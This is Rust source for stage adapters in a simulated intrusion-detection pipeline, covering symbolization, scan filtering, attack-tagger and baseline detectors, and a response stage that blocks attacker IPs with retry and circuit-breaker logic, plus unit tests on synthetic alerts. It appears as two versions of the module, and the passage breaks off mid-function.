                DetectorStage::Tagger(s) => s.outcome(a),
                DetectorStage::Rules(s) => s.outcome(a),
                DetectorStage::Critical(s) => s.outcome(a),
            };
            out.push(o);
        }
    }
}

impl Stage<Alert, DetectOutcome> for DetectorStage {
    fn name(&self) -> &'static str {
        match self {
            DetectorStage::Tagger(s) => s.name(),
            DetectorStage::Rules(s) => s.name(),
            DetectorStage::Critical(s) => s.name(),
        }
    }

    fn process_batch(&mut self, input: &[Alert], out: &mut Vec<DetectOutcome>) {
        match self {
            DetectorStage::Tagger(s) => s.process_batch(input, out),
            DetectorStage::Rules(s) => s.process_batch(input, out),
            DetectorStage::Critical(s) => s.process_batch(input, out),
        }
    }
}

/// Response and remediation (Fig. 4 part b): block the attacker source at
/// the BHR (deduplicated per source, batched per pipeline batch) and emit
/// an operator notification per detection.
pub struct ResponseStage {
    bhr: BhrHandle,
    block_on_detection: bool,
    detection_block_ttl: Option<SimDuration>,
    blocked: FxHashSet<Ipv4Addr>,
    source: &'static str,
    pending_blocks: Vec<(SimTime, Ipv4Addr, String, Option<SimDuration>)>,
}

impl ResponseStage {
    pub fn new(
        bhr: BhrHandle,
        block_on_detection: bool,
        detection_block_ttl: Option<SimDuration>,
        source: &'static str,
    ) -> Self {
        ResponseStage {
            bhr,
            block_on_detection,
            detection_block_ttl,
            blocked: FxHashSet::default(),
            source,
            pending_blocks: Vec::new(),
        }
    }

    pub fn bhr(&self) -> &BhrHandle {
        &self.bhr
    }

    /// Distinct sources blocked by this stage.
    pub fn blocked_sources(&self) -> u64 {
        self.blocked.len() as u64
    }

    /// Respond to a batch of outcomes. `now` is the response timestamp
    /// (block install time, TTL anchor, notification time): the
    /// closed-loop sink passes the engine's event time; record-stream
    /// executors pass `None`, anchoring each response at its alert's
    /// observation timestamp.
    pub fn respond(
        &mut self,
        now: Option<SimTime>,
        input: &[DetectOutcome],
        out: &mut Vec<OperatorNotification>,
    ) {
        for o in input {
            let Some(detection) = &o.detection else {
                continue;
            };
            let ts = now.unwrap_or(o.alert.ts);
            if self.block_on_detection {
                if let Some(src) = o.alert.src {
                    if self.blocked.insert(src) {
                        self.pending_blocks.push((
                            ts,
                            src,
                            format!("detector: {} at {}", detection.trigger, detection.stage),
                            self.detection_block_ttl,
                        ));
                    }
                }
            }
            out.push(OperatorNotification {
                ts,
                entity: o.alert.entity,
                detection: detection.clone(),
                message: format!(
                    "preemption: {} reached stage '{}' (p={:.2}) on alert {}",
                    o.alert.entity, detection.stage, detection.score, detection.trigger
                ),
                source: self.source.into(),
            });
        }
        if !self.pending_blocks.is_empty() {
            self.bhr.block_batch(self.pending_blocks.drain(..));
        }
    }
}

impl Stage<DetectOutcome, OperatorNotification> for ResponseStage {
    fn name(&self) -> &'static str {
        "response"
    }

    fn process_batch(&mut self, input: &[DetectOutcome], out: &mut Vec<OperatorNotification>) {
        self.respond(None, input, out);
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use alertlib::alert::Entity;
    use alertlib::filter::FilterConfig;
    use alertlib::symbolize::SymbolizerConfig;
    use alertlib::taxonomy::AlertKind;
    use detect::attack_tagger::TaggerConfig;
    use detect::train::toy_training_model;

    fn alert(t: u64, kind: AlertKind, user: &str) -> Alert {
        Alert::new(SimTime::from_secs(t), kind, Entity::User(user.into()))
    }

    #[test]
    fn tag_stage_emits_one_outcome_per_alert() {
        let mut stage = TagStage::new(AttackTagger::new(
            toy_training_model(),
            TaggerConfig::default(),
        ));
        let input = vec![
            alert(0, AlertKind::DownloadSensitive, "eve"),
            alert(10, AlertKind::CompileKernelModule, "eve"),
            alert(20, AlertKind::LogWipe, "eve"),
        ];
        let mut out = Vec::new();
        stage.process_batch(&input, &mut out);
        assert_eq!(out.len(), input.len(), "1:1 contract");
        assert!(out.iter().any(|o| o.detection.is_some()));
    }

    #[test]
    fn detector_stage_clone_starts_equivalent() {
        let stage = DetectorStage::rules(RuleBasedDetector::with_default_rules());
        let mut a = stage.clone();
        let mut b = stage;
        let input = vec![
            alert(0, AlertKind::KnownMalwareDownload, "eve"),
            alert(1, AlertKind::LoginSuccess, "alice"),
        ];
        let (mut oa, mut ob) = (Vec::new(), Vec::new());
        a.process_batch(&input, &mut oa);
        b.process_batch(&input, &mut ob);
        assert_eq!(oa.len(), ob.len());
        for (x, y) in oa.iter().zip(&ob) {
            assert_eq!(x.detection, y.detection);
        }
    }

    #[test]
    fn response_blocks_once_per_source_and_notifies() {
        let bhr = BhrHandle::new();
        let mut resp = ResponseStage::new(bhr.clone(), true, None, "attack-tagger");
        let src: Ipv4Addr = "103.102.1.1".parse().unwrap();
        let d = Detection {
            ts: SimTime::from_secs(5),
            alert_index: 0,
            trigger: AlertKind::C2Communication,
            score: 0.9,
            stage: detect::Stage::Foothold,
        };
        let outcome = |t: u64| DetectOutcome {
            alert: alert(t, AlertKind::C2Communication, "eve").with_src(src),
            detection: Some(d.clone()),
        };
        let mut notes = Vec::new();
        resp.process_batch(&[outcome(5), outcome(6)], &mut notes);
        assert_eq!(notes.len(), 2, "every detection notifies");
        assert_eq!(resp.blocked_sources(), 1, "block deduplicated per source");
        assert!(bhr.is_blocked(SimTime::from_secs(10), src));
        assert!(notes[0].message.contains("preemption"));
    }

    #[test]
    fn monitor_stage_runs_batched_without_an_engine() {
        use simnet::flow::{Flow, FlowId};
        // A monitor fleet handed over from a MonitorHub, driven as a
        // batched stage against a synthesized context.
        let topo = simnet::topology::NcsaTopologyBuilder::default().build();
        let mut stage = MonitorStage::new(telemetry::MonitorHub::standard().into_monitors())
            .with_topology(topo);
        let actions: Vec<TimedAction> = (0..5u64)
            .map(|i| {
                let t = SimTime::from_secs(i);
                TimedAction {
                    time: t,
                    direction: Direction::Inbound,
                    action: Action::Flow(Flow::probe(
                        FlowId(i),
                        t,
                        "103.102.1.1".parse().unwrap(),
                        "141.142.2.9".parse().unwrap(),
                        22,
                    )),
                }
            })
            .collect();
        let mut records = Vec::new();
        stage.process_batch(&actions, &mut records);
        assert_eq!(records.len(), 5, "each probe yields a conn record");
        stage.flush(&mut records);
        assert!(records.len() >= 5, "flush may add windowed scan notices");
    }

    #[test]
    fn symbolize_and_filter_stages_compose() {
        use simnet::flow::{ConnState, Direction, FlowId, Proto, Service};
        let mut sym = SymbolizeStage::new(Symbolizer::new(SymbolizerConfig::default()));
        let mut filt = FilterStage::new(ScanFilter::new(FilterConfig::default()));
        let records: Vec<LogRecord> = (0..50u64)
            .map(|i| {
                LogRecord::Conn(telemetry::record::ConnRecord {
                    ts: SimTime::from_secs(i),
                    uid: FlowId(i),
                    orig_h: "103.102.1.1".parse().unwrap(),
                    orig_p: 40_000,
                    resp_h: "141.142.2.9".parse().unwrap(),
                    resp_p: 22,
                    proto: Proto::Tcp,
                    service: Service::Ssh,
                    duration: simnet::time::SimDuration::ZERO,
                    orig_bytes: 0,
                    resp_bytes: 0,
                    conn_state: ConnState::S0,
                    direction: Direction::Inbound,
                })
            })
            .collect();
        let mut alerts = Vec::new();
        sym.process_batch(&records, &mut alerts);
        assert_eq!(alerts.len(), 50);
        let mut admitted = Vec::new();
        filt.process_batch(&alerts, &mut admitted);
        assert!(
            admitted.len() < 5,
            "scan flood collapses: {}",
            admitted.len()
        );
        assert_eq!(filt.stats().seen, 50);
    }
}
