//! [`Stage`] adapters wrapping the existing Fig. 4 components.
//!
//! Each adapter owns the component it wraps and exposes the batched
//! [`Stage`] interface; the detection adapters additionally guarantee the
//! **1:1 contract** the sharded executor relies on: exactly one
//! [`DetectOutcome`] is emitted per input alert, in input order.

use std::net::Ipv4Addr;

use alertlib::alert::Alert;
use alertlib::filter::{FilterStats, ScanFilter};
use alertlib::symbolize::Symbolizer;
use bhr::api::BhrHandle;
use bhr::retry::{BlockError, RetryPolicy};
use detect::attack_tagger::AttackTagger;
use detect::critical::CriticalOnlyDetector;
use detect::online::OnlineSessionDetector;
use detect::rules::RuleBasedDetector;
use detect::Detection;
use scenario::adapt::FeedbackTap;
use simnet::action::Action;
use simnet::engine::EventCtx;
use simnet::flow::Direction;
use simnet::intern::SymScope;
use simnet::rng::{FxHashSet, SimRng};
use simnet::time::{SimDuration, SimTime};
use simnet::topology::Topology;
use telemetry::monitor::Monitor;
use telemetry::record::LogRecord;

use crate::report::OperatorNotification;
use crate::stage::Stage;

/// An action with its observation context, for driving [`MonitorStage`]
/// outside the simulation engine (which supplies a live [`EventCtx`]).
#[derive(Debug, Clone)]
pub struct TimedAction {
    pub time: SimTime,
    pub direction: Direction,
    pub action: Action,
}

/// The monitor fleet as a stage: fans each action out to every monitor in
/// registration order (§III-B: one action can be witnessed by several
/// monitors).
pub struct MonitorStage {
    monitors: Vec<Box<dyn Monitor>>,
    /// Topology used to synthesize an [`EventCtx`] when driven as a
    /// batched [`Stage`]; the closed-loop sink instead passes the
    /// engine's live context to [`MonitorStage::observe`].
    topology: Option<Topology>,
}

impl MonitorStage {
    pub fn new(monitors: Vec<Box<dyn Monitor>>) -> Self {
        MonitorStage {
            monitors,
            topology: None,
        }
    }

    /// Attach a topology so the stage can be driven from [`TimedAction`]s
    /// without a running engine.
    pub fn with_topology(mut self, topology: Topology) -> Self {
        self.topology = Some(topology);
        self
    }

    /// Observe one action under the engine's live context — the single
    /// definition of the monitor fan-out both deployments share.
    pub fn observe(&mut self, ctx: &EventCtx<'_>, action: &Action, out: &mut Vec<LogRecord>) {
        for m in &mut self.monitors {
            m.observe(ctx, action, out);
        }
    }

    /// Drain windowed monitor state (pending scan notices etc.).
    pub fn flush_records(&mut self, out: &mut Vec<LogRecord>) {
        for m in &mut self.monitors {
            m.flush(out);
        }
    }
}

impl Stage<TimedAction, LogRecord> for MonitorStage {
    fn name(&self) -> &'static str {
        "monitors"
    }

    fn process_batch(&mut self, input: &[TimedAction], out: &mut Vec<LogRecord>) {
        let topo = self
            .topology
            .as_ref()
            .expect("MonitorStage needs with_topology() to run as a batched stage");
        for ta in input {
            let ctx = EventCtx {
                time: ta.time,
                direction: ta.direction,
                dropped: None,
                topo,
            };
            for m in &mut self.monitors {
                m.observe(&ctx, &ta.action, out);
            }
        }
    }

    fn flush(&mut self, out: &mut Vec<LogRecord>) {
        self.flush_records(out);
    }
}

/// Telemetry fault injection as a stage: sits between generation and
/// symbolize, corrupting the record stream per a
/// [`scenario::faults::FaultPlan`] (loss, blackouts, duplication,
/// bounded reordering, clock skew). Deterministic in `(plan, input)` and
/// batch-boundary-invariant, so every executor sees the identical
/// faulted stream.
#[derive(Debug)]
pub struct FaultStage {
    injector: scenario::faults::FaultInjector,
}

impl FaultStage {
    pub fn new(plan: scenario::faults::FaultPlan) -> Self {
        FaultStage {
            injector: scenario::faults::FaultInjector::new(plan),
        }
    }

    pub fn stats(&self) -> scenario::faults::FaultStats {
        self.injector.stats()
    }
}

impl Stage<LogRecord, LogRecord> for FaultStage {
    fn name(&self) -> &'static str {
        "fault-injection"
    }

    fn process_batch(&mut self, input: &[LogRecord], out: &mut Vec<LogRecord>) {
        for r in input {
            self.injector.push(r.clone(), out);
        }
    }

    fn flush(&mut self, out: &mut Vec<LogRecord>) {
        self.injector.finish(out);
    }
}

/// Symbolization: records → alerts (§II-A).
#[derive(Debug, Clone)]
pub struct SymbolizeStage {
    symbolizer: Symbolizer,
}

impl SymbolizeStage {
    pub fn new(symbolizer: Symbolizer) -> Self {
        SymbolizeStage { symbolizer }
    }

    pub fn symbolizer(&self) -> &Symbolizer {
        &self.symbolizer
    }
}

impl Stage<LogRecord, Alert> for SymbolizeStage {
    fn name(&self) -> &'static str {
        "symbolize"
    }

    fn process_batch(&mut self, input: &[LogRecord], out: &mut Vec<Alert>) {
        for r in input {
            self.symbolizer.symbolize_into(r, out);
        }
    }
}

/// The repeated-scan filter as a stage (admitted alerts pass through).
#[derive(Debug)]
pub struct FilterStage {
    filter: ScanFilter,
}

impl FilterStage {
    pub fn new(filter: ScanFilter) -> Self {
        FilterStage { filter }
    }

    pub fn stats(&self) -> FilterStats {
        self.filter.stats()
    }

    /// The underlying filter — service snapshot export reads its window
    /// state.
    pub fn filter(&self) -> &ScanFilter {
        &self.filter
    }

    /// Mutable access for service snapshot restore.
    pub fn filter_mut(&mut self) -> &mut ScanFilter {
        &mut self.filter
    }

    /// Owned-batch variant for executors: drains `batch`, moving admitted
    /// alerts into `out` (no clones on the hot path). Leaves `batch`
    /// empty with its capacity intact.
    pub fn admit_drain(&mut self, batch: &mut Vec<Alert>, out: &mut Vec<Alert>) {
        for a in batch.drain(..) {
            if self.filter.admit(&a) {
                out.push(a);
            }
        }
    }
}

impl Stage<Alert, Alert> for FilterStage {
    fn name(&self) -> &'static str {
        "scan-filter"
    }

    fn process_batch(&mut self, input: &[Alert], out: &mut Vec<Alert>) {
        for a in input {
            if self.filter.admit(a) {
                out.push(*a);
            }
        }
    }
}

/// One admitted alert annotated with the detector's verdict. Detection
/// stages emit exactly one outcome per input alert, in order.
#[derive(Debug, Clone)]
pub struct DetectOutcome {
    pub alert: Alert,
    pub detection: Option<Detection>,
    /// The entity's post-observe posterior mass over the decision stages
    /// (tagger), or 0.0 / 1.0 detection indicator (baselines). Computed
    /// on the per-shard observe path so the cross-entity correlator —
    /// which runs downstream on the merged outcome stream — never needs a
    /// second look at per-entity state.
    pub attack_score: f64,
}

/// The factor-graph [`AttackTagger`] as a detection stage.
#[derive(Debug, Clone)]
pub struct TagStage {
    tagger: AttackTagger,
}

impl TagStage {
    pub fn new(tagger: AttackTagger) -> Self {
        TagStage { tagger }
    }

    pub fn tagger(&self) -> &AttackTagger {
        &self.tagger
    }

    pub fn tagger_mut(&mut self) -> &mut AttackTagger {
        &mut self.tagger
    }

    fn outcome(&mut self, alert: Alert) -> DetectOutcome {
        let scored = self.tagger.observe_scored(&alert);
        DetectOutcome {
            detection: scored.detection,
            attack_score: scored.attack_score,
            alert,
        }
    }
}

impl Stage<Alert, DetectOutcome> for TagStage {
    fn name(&self) -> &'static str {
        "attack-tagger"
    }

    fn process_batch(&mut self, input: &[Alert], out: &mut Vec<DetectOutcome>) {
        for a in input {
            out.push(self.outcome(*a));
        }
    }
}

/// A session-scan baseline (rule-based or critical-only) as an online
/// detection stage, via [`OnlineSessionDetector`].
#[derive(Debug, Clone)]
pub struct BaselineStage<D> {
    name: &'static str,
    online: OnlineSessionDetector<D>,
}

impl<D: detect::SequenceDetector> BaselineStage<D> {
    pub fn new(name: &'static str, detector: D) -> Self {
        BaselineStage {
            name,
            online: OnlineSessionDetector::new(detector),
        }
    }

    fn outcome(&mut self, alert: Alert) -> DetectOutcome {
        let detection = self.online.observe(&alert);
        DetectOutcome {
            attack_score: if detection.is_some() { 1.0 } else { 0.0 },
            detection,
            alert,
        }
    }
}

impl<D: detect::SequenceDetector + Send> Stage<Alert, DetectOutcome> for BaselineStage<D> {
    fn name(&self) -> &'static str {
        self.name
    }

    fn process_batch(&mut self, input: &[Alert], out: &mut Vec<DetectOutcome>) {
        for a in input {
            out.push(self.outcome(*a));
        }
    }
}

/// The detection slot of an assembled pipeline. An enum (rather than a
/// boxed trait object) so the sharded executor can clone per-entity-empty
/// replicas for its shards.
#[derive(Debug, Clone)]
pub enum DetectorStage {
    Tagger(Box<TagStage>),
    Rules(BaselineStage<RuleBasedDetector>),
    Critical(BaselineStage<CriticalOnlyDetector>),
}

impl DetectorStage {
    pub fn tagger(tagger: AttackTagger) -> Self {
        DetectorStage::Tagger(Box::new(TagStage::new(tagger)))
    }

    pub fn rules(rules: RuleBasedDetector) -> Self {
        DetectorStage::Rules(BaselineStage::new("rule-based", rules))
    }

    pub fn critical() -> Self {
        DetectorStage::Critical(BaselineStage::new(
            "critical-only",
            CriticalOnlyDetector::new(),
        ))
    }

    /// Detector source label carried on operator notifications.
    pub fn source(&self) -> &'static str {
        match self {
            DetectorStage::Tagger(_) => "attack-tagger",
            DetectorStage::Rules(_) => "rule-based",
            DetectorStage::Critical(_) => "critical-only",
        }
    }

    /// The underlying factor-graph tagger, when this slot holds one —
    /// the evaluation harness's ground-truth hook into per-entity
    /// detection state.
    pub fn as_tagger(&self) -> Option<&AttackTagger> {
        match self {
            DetectorStage::Tagger(s) => Some(s.tagger()),
            _ => None,
        }
    }

    /// Mutable tagger access — service snapshot restore imports posterior
    /// state through this.
    pub fn as_tagger_mut(&mut self) -> Option<&mut AttackTagger> {
        match self {
            DetectorStage::Tagger(s) => Some(s.tagger_mut()),
            _ => None,
        }
    }

    /// Apply a temporal-policy override to the detector, when it is the
    /// factor-graph tagger (the baselines have no temporal state). This is
    /// how [`crate::config::PipelineTuning::temporal`] reaches the stage.
    pub fn apply_temporal(&mut self, temporal: &detect::attack_tagger::TemporalPolicy) {
        if let DetectorStage::Tagger(s) = self {
            s.tagger_mut().set_temporal(temporal.clone());
        }
    }

    /// Cap the detector's resident per-entity state (tagger only — the
    /// baselines key state by session, not entity). This is how
    /// [`crate::config::PipelineTuning::detect_max_entities`] reaches the
    /// stage.
    pub fn apply_entity_budget(&mut self, max_entities: usize) {
        if let DetectorStage::Tagger(s) = self {
            s.tagger_mut().set_max_entities(max_entities);
        }
    }

    /// Declare known telemetry blackout windows to the detector (tagger
    /// only — the baselines carry no temporal state). See
    /// [`AttackTagger::set_blackouts`].
    pub fn apply_blackouts(&mut self, windows: Vec<(SimTime, SimTime)>) {
        if let DetectorStage::Tagger(s) = self {
            s.tagger_mut().set_blackouts(windows);
        }
    }

    /// The opt-in cross-entity correlation policy carried by the tagger's
    /// config (`None` for the baselines and for taggers without one).
    /// The pipeline builder reads this to construct the campaign
    /// correlator that runs over the merged outcome stream.
    pub fn correlation_policy(&self) -> Option<detect::CorrelationPolicy> {
        match self {
            DetectorStage::Tagger(s) => s.tagger().config().correlation.clone(),
            _ => None,
        }
    }

    /// Build the campaign correlator the pipeline should run over the
    /// merged outcome stream, when the detector carries a correlation
    /// policy: the tagger's own chain model and decision stages are
    /// attached so stitched campaign sequences are re-scored with the
    /// exact inference the per-entity tagger runs.
    pub fn build_correlator(&self) -> Option<detect::CampaignCorrelator> {
        match self {
            DetectorStage::Tagger(s) => {
                let tagger = s.tagger();
                tagger.config().correlation.clone().map(|policy| {
                    detect::CampaignCorrelator::with_model(
                        policy,
                        tagger.model().clone(),
                        tagger.config().decision_stages.clone(),
                    )
                })
            }
            _ => None,
        }
    }

    /// Install (or clear) the cross-entity correlation policy, when the
    /// detector is the factor-graph tagger — the builder's override hook,
    /// mirroring [`DetectorStage::apply_temporal`].
    pub fn apply_correlation(&mut self, correlation: Option<detect::CorrelationPolicy>) {
        if let DetectorStage::Tagger(s) = self {
            s.tagger_mut().set_correlation(correlation);
        }
    }

    /// Alerts the detector dropped as telemetry re-deliveries (0 for the
    /// baselines, and for a tagger with no dedup window configured).
    pub fn duplicates_suppressed(&self) -> u64 {
        match self {
            DetectorStage::Tagger(s) => s.tagger().duplicates_suppressed(),
            _ => 0,
        }
    }

    /// Owned-batch variant for executors: drains `batch`, emitting one
    /// outcome per alert (no clones). Leaves `batch` empty with its
    /// capacity intact.
    pub fn process_drain(&mut self, batch: &mut Vec<Alert>, out: &mut Vec<DetectOutcome>) {
        for a in batch.drain(..) {
            let o = match self {
                DetectorStage::Tagger(s) => s.outcome(a),
                DetectorStage::Rules(s) => s.outcome(a),
                DetectorStage::Critical(s) => s.outcome(a),
            };
            out.push(o);
        }
    }
}

impl Stage<Alert, DetectOutcome> for DetectorStage {
    fn name(&self) -> &'static str {
        match self {
            DetectorStage::Tagger(s) => s.name(),
            DetectorStage::Rules(s) => s.name(),
            DetectorStage::Critical(s) => s.name(),
        }
    }

    fn process_batch(&mut self, input: &[Alert], out: &mut Vec<DetectOutcome>) {
        match self {
            DetectorStage::Tagger(s) => s.process_batch(input, out),
            DetectorStage::Rules(s) => s.process_batch(input, out),
            DetectorStage::Critical(s) => s.process_batch(input, out),
        }
    }
}

/// Delivery transport for operator notifications. The default path has no
/// backend at all (every notification lands, exactly the historical
/// behaviour); an injected backend may fail, feeding the same retry
/// machinery as blocks.
pub trait NotifyBackend: Send {
    fn try_notify(&mut self, note: &OperatorNotification) -> Result<(), BlockError>;
}

/// A block whose delivery failed, waiting for its next retry slot.
#[derive(Debug, Clone)]
struct PendingBlock {
    addr: Ipv4Addr,
    reason: String,
    ttl: Option<SimDuration>,
    /// When the first delivery failed (deadline anchor).
    first_failure: SimTime,
    /// Failed delivery attempts so far.
    attempts: u32,
    /// Scheduled time of the next attempt.
    next_ts: SimTime,
}

/// A notification whose delivery failed, waiting for its next retry slot.
struct PendingNote {
    note: OperatorNotification,
    first_failure: SimTime,
    attempts: u32,
    next_ts: SimTime,
}

/// Circuit-breaker state for block delivery.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Breaker {
    Closed,
    /// Tripped: no RPCs until `until`.
    Open {
        until: SimTime,
    },
}

/// Response and remediation (Fig. 4 part b): block the attacker source at
/// the BHR (deduplicated per source) and emit an operator notification
/// per detection.
///
/// Delivery is fallible: a failed block RPC (see
/// [`bhr::retry::BlockBackend`]) enters a pending queue and is retried on
/// the [`RetryPolicy`]'s backoff schedule — with a circuit breaker that
/// stops hammering a down router — until it lands, exhausts its attempt
/// cap, or passes its deadline (then it is *abandoned*, counted and
/// audited, never silently dropped). Failed notifications get the same
/// treatment minus the breaker. All retry timing is driven by the alert
/// timestamps flowing through [`ResponseStage::respond`] (plus
/// [`Stage::flush`] at end of stream), never by batch boundaries, so
/// every executor replays the identical schedule.
pub struct ResponseStage {
    bhr: BhrHandle,
    block_on_detection: bool,
    detection_block_ttl: Option<SimDuration>,
    blocked: FxHashSet<Ipv4Addr>,
    source: &'static str,
    /// Scope the pipeline's alert symbols were minted in — notification
    /// text resolves entity names against it (global by default).
    scope: SymScope,
    retry: RetryPolicy,
    /// Jitter stream for backoff scheduling; consumed only on failures,
    /// so the clean path draws nothing.
    rng: SimRng,
    notify_backend: Option<Box<dyn NotifyBackend>>,
    /// Optional adaptive-attacker observation channel: every block
    /// *decision* is published here (see [`FeedbackTap`]). A pure side
    /// channel — publishing never touches pipeline state, so tapped and
    /// untapped runs produce byte-identical detections.
    feedback: Option<FeedbackTap>,
    pending_blocks: Vec<PendingBlock>,
    pending_notes: Vec<PendingNote>,
    breaker: Breaker,
    consecutive_failures: u32,
    blocks_retried: u64,
    blocks_abandoned: u64,
    notifications_retried: u64,
    notifications_abandoned: u64,
}

impl ResponseStage {
    /// Seed for the backoff-jitter stream (shared by every executor so
    /// retry schedules are byte-identical across them).
    const RETRY_SEED: u64 = 0x5E7_B10C;

    pub fn new(
        bhr: BhrHandle,
        block_on_detection: bool,
        detection_block_ttl: Option<SimDuration>,
        source: &'static str,
    ) -> Self {
        ResponseStage {
            bhr,
            block_on_detection,
            detection_block_ttl,
            blocked: FxHashSet::default(),
            source,
            scope: SymScope::global(),
            retry: RetryPolicy::default(),
            rng: SimRng::seed(Self::RETRY_SEED),
            notify_backend: None,
            feedback: None,
            pending_blocks: Vec::new(),
            pending_notes: Vec::new(),
            breaker: Breaker::Closed,
            consecutive_failures: 0,
            blocks_retried: 0,
            blocks_abandoned: 0,
            notifications_retried: 0,
            notifications_abandoned: 0,
        }
    }

    /// Replace the retry policy (and reseed the jitter stream — pass the
    /// same seed across executors for byte-identical schedules).
    pub fn with_retry(mut self, retry: RetryPolicy, seed: u64) -> Self {
        self.retry = retry;
        self.rng = SimRng::seed(seed);
        self
    }

    /// Route notifications through a fallible backend (fault injection);
    /// without one every notification lands directly.
    pub fn with_notify_backend(mut self, backend: impl NotifyBackend + 'static) -> Self {
        self.notify_backend = Some(Box::new(backend));
        self
    }

    /// [`ResponseStage::with_notify_backend`] for an already-boxed backend.
    pub fn with_boxed_notify_backend(mut self, backend: Box<dyn NotifyBackend>) -> Self {
        self.notify_backend = Some(backend);
        self
    }

    /// Resolve notification entity names against an explicit scope —
    /// required when the pipeline's alerts carry tenant-scoped symbols.
    pub fn with_scope(mut self, scope: SymScope) -> Self {
        self.scope = scope;
        self
    }

    /// Publish every block decision into `tap` — the adaptive attacker's
    /// observation surface (`scenario::adapt::ReactiveGenerator` drains
    /// it at its round boundaries). Decision-time, not delivery-time:
    /// what an adversary observes is the defense *choosing* to null-route
    /// them, and the decision stream is identical across executors and
    /// unaffected by flaky delivery backends.
    pub fn with_block_feedback(mut self, tap: FeedbackTap) -> Self {
        self.feedback = Some(tap);
        self
    }

    pub fn bhr(&self) -> &BhrHandle {
        &self.bhr
    }

    /// Distinct sources this stage decided to block. Includes sources
    /// whose delivery is still pending or was abandoned — the *intent*
    /// count, deduplicated per source.
    pub fn blocked_sources(&self) -> u64 {
        self.blocked.len() as u64
    }

    /// Retry delivery attempts for blocks (first attempts excluded).
    pub fn blocks_retried(&self) -> u64 {
        self.blocks_retried
    }

    /// Blocks given up on after the attempt cap or deadline.
    pub fn blocks_abandoned(&self) -> u64 {
        self.blocks_abandoned
    }

    /// Retry delivery attempts for notifications.
    pub fn notifications_retried(&self) -> u64 {
        self.notifications_retried
    }

    /// Notifications given up on after the attempt cap or deadline.
    pub fn notifications_abandoned(&self) -> u64 {
        self.notifications_abandoned
    }

    /// Blocks currently awaiting a retry slot.
    pub fn pending_block_count(&self) -> usize {
        self.pending_blocks.len()
    }

    fn note_block_failure(&mut self, ts: SimTime) {
        self.consecutive_failures += 1;
        if self.breaker == Breaker::Closed
            && self.retry.breaker_threshold > 0
            && self.consecutive_failures >= self.retry.breaker_threshold
        {
            let until = ts.saturating_add(self.retry.breaker_cooldown);
            self.breaker = Breaker::Open { until };
            self.bhr.audit_event(
                ts,
                "circuit-open",
                None,
                format!(
                    "{} consecutive delivery failures",
                    self.consecutive_failures
                ),
            );
        }
    }

    /// Queue (or immediately deliver) one block decision.
    fn submit_block(&mut self, ts: SimTime, addr: Ipv4Addr, reason: String) {
        if let Breaker::Open { until } = self.breaker {
            // No RPCs while the breaker is open: straight to the queue,
            // first attempt when the breaker closes.
            self.pending_blocks.push(PendingBlock {
                addr,
                reason,
                ttl: self.detection_block_ttl,
                first_failure: ts,
                attempts: 0,
                next_ts: until,
            });
            return;
        }
        match self
            .bhr
            .try_block(ts, addr, reason.clone(), self.detection_block_ttl)
        {
            Ok(_) => self.consecutive_failures = 0,
            Err(_) => {
                self.note_block_failure(ts);
                if self.retry.max_attempts <= 1 {
                    self.blocks_abandoned += 1;
                    self.bhr
                        .audit_event(ts, "block-abandoned", Some(addr), "retries disabled");
                    return;
                }
                let delay = self.retry.backoff(1, &mut self.rng);
                let mut next_ts = ts.saturating_add(delay);
                if let Breaker::Open { until } = self.breaker {
                    if until > next_ts {
                        next_ts = until;
                    }
                }
                self.pending_blocks.push(PendingBlock {
                    addr,
                    reason,
                    ttl: self.detection_block_ttl,
                    first_failure: ts,
                    attempts: 1,
                    next_ts,
                });
            }
        }
    }

    /// Deliver (or queue) one notification.
    fn deliver_note(
        &mut self,
        ts: SimTime,
        note: OperatorNotification,
        out: &mut Vec<OperatorNotification>,
    ) {
        let Some(backend) = self.notify_backend.as_mut() else {
            out.push(note);
            return;
        };
        match backend.try_notify(&note) {
            Ok(()) => out.push(note),
            Err(e) => {
                self.bhr
                    .audit_event(ts, "notify-failed", None, e.to_string());
                if self.retry.max_attempts <= 1 {
                    self.notifications_abandoned += 1;
                    self.bhr
                        .audit_event(ts, "notify-abandoned", None, "retries disabled");
                    return;
                }
                let delay = self.retry.backoff(1, &mut self.rng);
                self.pending_notes.push(PendingNote {
                    note,
                    first_failure: ts,
                    attempts: 1,
                    next_ts: ts.saturating_add(delay),
                });
            }
        }
    }

    /// Pump the retry queues up to time `ts`: close a cooled-down
    /// breaker, re-attempt every due pending block and notification.
    /// Driven per detection event and by [`Stage::flush`] — never by
    /// batch boundaries.
    fn advance(&mut self, ts: SimTime, out: &mut Vec<OperatorNotification>) {
        if let Breaker::Open { until } = self.breaker {
            if ts >= until {
                self.breaker = Breaker::Closed;
                self.consecutive_failures = 0;
                self.bhr
                    .audit_event(until, "circuit-close", None, "cooldown elapsed");
            }
        }
        let mut i = 0;
        while i < self.pending_blocks.len() {
            if matches!(self.breaker, Breaker::Open { .. }) {
                break;
            }
            if self.pending_blocks[i].next_ts > ts {
                i += 1;
                continue;
            }
            let mut pb = self.pending_blocks.swap_remove(i);
            let attempt_ts = pb.next_ts;
            self.blocks_retried += 1;
            match self
                .bhr
                .try_block(attempt_ts, pb.addr, pb.reason.clone(), pb.ttl)
            {
                Ok(_) => self.consecutive_failures = 0,
                Err(_) => {
                    self.note_block_failure(attempt_ts);
                    pb.attempts += 1;
                    let over_deadline = self
                        .retry
                        .deadline_exceeded(attempt_ts.saturating_since(pb.first_failure));
                    if pb.attempts >= self.retry.max_attempts || over_deadline {
                        self.blocks_abandoned += 1;
                        self.bhr.audit_event(
                            attempt_ts,
                            "block-abandoned",
                            Some(pb.addr),
                            format!("after {} failed attempts", pb.attempts),
                        );
                    } else {
                        let delay = self.retry.backoff(pb.attempts, &mut self.rng);
                        pb.next_ts = attempt_ts.saturating_add(delay);
                        if let Breaker::Open { until } = self.breaker {
                            if until > pb.next_ts {
                                pb.next_ts = until;
                            }
                        }
                        self.pending_blocks.push(pb);
                    }
                }
            }
        }
        let mut i = 0;
        while i < self.pending_notes.len() {
            if self.pending_notes[i].next_ts > ts {
                i += 1;
                continue;
            }
            let mut pn = self.pending_notes.swap_remove(i);
            let attempt_ts = pn.next_ts;
            self.notifications_retried += 1;
            let backend = self
                .notify_backend
                .as_mut()
                .expect("pending notes exist only with a notify backend");
            match backend.try_notify(&pn.note) {
                Ok(()) => out.push(pn.note),
                Err(e) => {
                    pn.attempts += 1;
                    let over_deadline = self
                        .retry
                        .deadline_exceeded(attempt_ts.saturating_since(pn.first_failure));
                    if pn.attempts >= self.retry.max_attempts || over_deadline {
                        self.notifications_abandoned += 1;
                        self.bhr
